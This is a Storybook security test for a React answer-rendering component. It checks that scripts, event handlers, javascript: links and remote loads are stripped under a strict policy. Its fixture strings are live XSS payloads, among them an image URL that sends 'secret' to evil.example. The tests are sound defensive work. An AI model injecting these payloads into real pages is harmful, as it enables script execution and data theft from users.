import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn, waitFor } from 'storybook/test';
import type { Citation } from '@credence-ui/core/response';
import { StrictFrame } from '../../test/StrictFrame.tsx';
import { Answer } from './index.ts';

const hostile = `Refunds take **30 days** [1].

<script>alert(1)</script> <img src=x onerror=alert(2)>

[Open your account](javascript:alert(3)) or [this one](https://user@bank.example@evil.example/), ![a chart](https://evil.example/c.png?d=secret)

<button data-tier="high" data-citation="9">High confidence</button> and a source that was never given [9].`;

const citations: readonly Citation[] = [
  {
    id: '1',
    source: '</mark><script>alert(4)</script>',
    url: 'javascript:alert(5)',
    quote: '<img src=x onerror=alert(6)>',
    anchor: 'marker',
  },
];

const meta = {
  title: 'Answer/Safety',
  component: StrictFrame,
  args: {
    children: <Answer.Text content={hostile} citations={citations} unresolved="mark" />,
    onViolation: fn(),
  },
} satisfies Meta<typeof StrictFrame>;

export default meta;
type Story = StoryObj<typeof meta>;

/** A hostile answer under an enforced strict policy with Trusted Types: nothing runs, loads or lies, and nothing is stopped. */
export const StrictPolicy: Story = {
  play: async ({ canvasElement, args }) => {
    const answer = await waitFor(() => {
      const inner = canvasElement.querySelector('iframe')?.contentDocument;
      const found = inner?.querySelector('[data-credence="answer-text"]');
      if (!found) throw new Error('The answer is not there yet.');
      return found;
    });
    await expect(answer).toHaveTextContent('Refunds take 30 days');
    await expect(answer.querySelector('script, img, button, [data-tier]')).toBe(null);
    const links = [...answer.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    await expect(links.filter((href) => /script:/.test(href ?? ''))).toEqual([]);
    await expect(args.onViolation).not.toHaveBeenCalled();
  },
};
